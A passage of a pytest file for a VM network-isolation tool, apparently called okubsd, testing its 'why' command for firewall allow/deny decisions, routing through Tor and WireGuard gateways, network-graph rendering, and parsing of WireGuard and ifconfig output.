        remove_rule(EDITED, "c", "allow", 0)


# --- why, graph, state of tunnels ---------------------------------------------------------------

DRAWN = (
    "networks: {p: {wireguard: p.conf}, tor: {gateway: onion}, lab: {switch: 10.77.0.1/24}}\n"
    "vms: {onion: {image: tor-gateway, network: p}, a: {image: term, network: tor, color: red,"
    " deny: [any, 'x.example.org:80', 'any:25'], bandwidth: {down: 5M}},"
    " b: {image: term}, c: {image: term, network: none}, d: {image: term, network: lab}}"
)


@pytest.mark.parametrize(
    ("text", "state", "leaves", "words"),
    [
        ("deny: [any], allow: ['nosuch.example:443']", "nosuch.example 1 - has no address", False, "deny any"),
        ("deny: ['nosuch.example:443']", "nosuch.example 1 - does not answer", True, "no rule denies"),
        ("deny: ['nosuch.example:443']", "nosuch.example 1 203.0.113.5", False, "deny nosuch.example:443"),
    ],
)
def test_why_knows_that_a_name_without_an_address_does_nothing(
    text: str, state: str, leaves: bool, words: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:  # fmt: skip
    from okubsd.cli.main import call

    path = tmp_path / "okubsd.yaml"
    path.write_text(f"vms: {{a: {{image: term, {text}}}}}\n")
    (tmp_path / "state/run/a").mkdir(parents=True)
    (tmp_path / "state/run/a/names.state").write_text(f"{state}\n")
    monkeypatch.setenv("OKUBSD_CONFIG", str(path))
    monkeypatch.setattr("okubsd.host.running.is_running", lambda places, name: True)
    try:
        code = call(["why", "a", "nosuch.example:443"])
    except SystemExit as end:
        code = int(str(end.code))
    assert code == (0 if leaves else 1)
    said = capsys.readouterr().out
    assert words in said and ("so its rule does nothing" in said) is (" - " in state)


def test_why_names_the_rule() -> None:
    vm = wish_of(
        "vms:\n  a:\n    image: term\n    deny:\n      - any\n    allow:\n      - {to: example.org:443, comment: mine}\n"
    ).vms[0]
    now = time.time()
    assert decide(vm, "example.org", "tcp", 443, now).sentence.endswith(
        "/c/okubsd.yaml:7: allow example.org:443 (mine)"
    )
    assert (
        not decide(vm, "example.org", "tcp", 80, now).passes and not decide(vm, "example.net", "tcp", 443, now).passes
    )
    assert decide(vm, "8.8.8.8", "udp", 53, now).sentence.endswith("names are asked of the resolver of its own network")
    assert "carries IPv6" in decide(vm, "2001:db8::1", "tcp", 443, now).sentence


def test_why_follows_the_way_through_gateways() -> None:
    description = wish_of(
        "networks: {tor: {gateway: onion}, filtered: {gateway: filter}, sealed: {gateway: way}}\nvms:\n"
        "  onion: {image: tor-gateway}\n  filter: {image: vpn-gateway, deny: ['any:25']}\n"
        "  way: {image: vpn-gateway, tunnel: x, deny: ['any:25']}\n"
        "  a: {image: term, network: tor}\n  b: {image: term, network: filtered}\n  c: {image: term, network: sealed}\n"
    )

    def sentence(name: str, protocol: str, port: int) -> str:
        vm = description.find(name)
        assert vm is not None
        return decide(vm, "8.8.8.8", protocol, port, 0.0, passers_of(vm, description, RECIPES)).sentence

    assert sentence("a", "tcp", 443) == "a: reaches it through the VM 'onion': what no rule denies is allowed"
    assert sentence("a", "udp", 443).endswith("the VM 'onion' passes on TCP and names, and nothing else")
    assert "resolver of its own network" in sentence("a", "udp", 53)
    assert sentence("b", "tcp", 443).startswith("b: reaches it")
    assert sentence("b", "tcp", 25) == (
        "b: does not reach it: on its way, filter: does not reach it: /c/okubsd.yaml:4: deny any:25"
    )
    assert sentence("c", "tcp", 25).startswith("c: reaches it"), "its packets are in the tunnel there"
    assert "c -> way -> tunnel of way -> the Internet\n" in render_text(description)


def test_the_picture_has_everybody_in_it() -> None:
    description = wish_of(DRAWN)
    assert render_text(description) == (
        "onion -> tunnel p -> the Internet\na -> onion -> tunnel p -> the Internet\n    deny any\n"
        "    deny x.example.org:80\n    deny any:25\n    receives at most 5000 kbit/s\nb -> the Internet\n"
        "c (no network)\nd -> switch lab\n"
    )
    graph = draw(description)
    columns = {box.name: box.column for box in graph.boxes}
    assert columns["a"] < columns["onion"] < columns["tunnel p"] < columns["the Internet"]
    assert {(arrow.source, arrow.target) for arrow in graph.arrows} >= {("a", "onion"), ("b", "the Internet")}
    svg = ElementTree.fromstring(render_svg(graph))
    texts = {element.text for element in svg.iter("{http://www.w3.org/2000/svg}text")}
    assert {"a", "b", "c", "d", "onion", "tunnel p", "the Internet", "switch lab"} <= texts
    assert draw(Description(Path("x"), (Vm(name="a", image="<&>"),))).boxes and "<&>" not in render_svg(
        draw(Description(Path("x"), (Vm(name="a", image="<&>"),)))
    )


def test_what_wg_and_ifconfig_say_is_understood() -> None:
    dump = "priv\tpub\t51820\toff\nKEY=\t(none)\t198.51.100.7:51820\t0.0.0.0/0\t1000\t92\t180\t25\nbad line\n"
    (peer,) = parse_wg_show(dump, 1011.5)
    assert peer.handshake == 11 and peer.in_words() == "answers, last 11 s ago" and peer.received == 92
    corpus = CHECKOUT / "tests/openbsd/corpus/samples"
    (peer,) = parse_ifconfig_wg((corpus / "ifconfig-wg-after-handshake.txt").read_text())
    assert peer.handshake is not None and peer.received > 0 and peer.endpoint
    (silent,) = parse_ifconfig_wg((corpus / "ifconfig-wg-peer-no-answer.txt").read_text())
    assert silent.in_words() == "never answered" and silent.sent > 0


def test_a_namespace_that_lets_nothing_out_asks_no_names() -> None:
    denied = (parse_rule("any", allow=False),)
    text = render_namespace(denied, Bandwidth(), host=(), asked="10.0.3.3", resolver="", now=0.0)
    assert "th dport 53" not in text
    allowed = (*denied, msgspec.structs.replace(parse_rule("198.51.100.1:443", allow=True), line=7))
    assert "th dport 53" in render_namespace(allowed, Bandwidth(), host=(), asked="10.0.3.3", resolver="", now=0.0)
    assert "th dport 53" not in render_namespace(allowed, Bandwidth(), host=(), asked="", resolver="", now=0.0)


def test_a_gateway_is_told_where_the_ends_of_its_tunnel_are() -> None:
    tunnel = parse_wg_quick(Path("p.conf"), wg_text())
    conf = GatewayConf(vms=(), clients=Clients(names=()), uplink="10.0.2.2")
    said = {entry.path: entry.data.decode() for entry in gateway_entries(conf, tunnel, 0.0) if entry.data}
    ends = " ".join(sorted({peer.endpoint[0] for peer in tunnel.peers if peer.endpoint}))
    assert ends and f"endpoints={ends}\n" in said["run/okubsd/gateway/settings"]


def test_why_knows_what_a_gateway_reaches_itself(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "okubsd").mkdir()
    key = base64.b64encode(bytes(range(32))).decode()
    path = tmp_path / "okubsd/vpn.conf"
    path.write_text(
        f"[Interface]\nPrivateKey = {key}\nAddress = 10.66.0.2/32\nDNS = 10.64.0.1\n"
        f"[Peer]\nPublicKey = {key}\nAllowedIPs = 0.0.0.0/0\nEndpoint = 198.51.100.7:51820\n"
    )
    path.chmod(0o600)
    (tmp_path / "okubsd/okubsd.yaml").write_text("vms: {way: {image: vpn-gateway, tunnel: vpn.conf}}")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path))
    monkeypatch.setattr(walls, "ask_addresses", lambda: ("203.0.113.99",))
    with pytest.raises(SystemExit, match="1"):
        call(["why", "way", "203.0.113.10:80"])
    assert "a gateway reaches the endpoint of its tunnel, and nothing beside it" in capsys.readouterr().out
    assert call(["why", "-p", "udp", "way", "198.51.100.7:51820"]) == 0


def test_why_knows_that_no_vm_is_let_to_this_host(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "okubsd").mkdir()
    text = "vms: {a: {image: term, allow: [203.0.113.99]}, b: {image: term, network: none}}"
    (tmp_path / "okubsd/okubsd.yaml").write_text(text)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path))
    monkeypatch.setattr(walls, "ask_addresses", lambda: ("203.0.113.99",))
    monkeypatch.setattr(walls, "ask_uplink", lambda: "")
    for wall in ("", "refused here"):
        monkeypatch.setattr(walls, "ask_wall", lambda wall=wall: wall)
        if wall:
            # What holds a guest without a namespace lets it to the host, so nothing else is said.
            assert call(["why", "a", "203.0.113.99:80"]) == 0
            continue
        with pytest.raises(SystemExit, match="1"):
            call(["why", "a", "203.0.113.99:80"])
        assert "no VM is let to this host" in capsys.readouterr().out
    assert call(["why", "a", "203.0.113.98:80"]) == 0
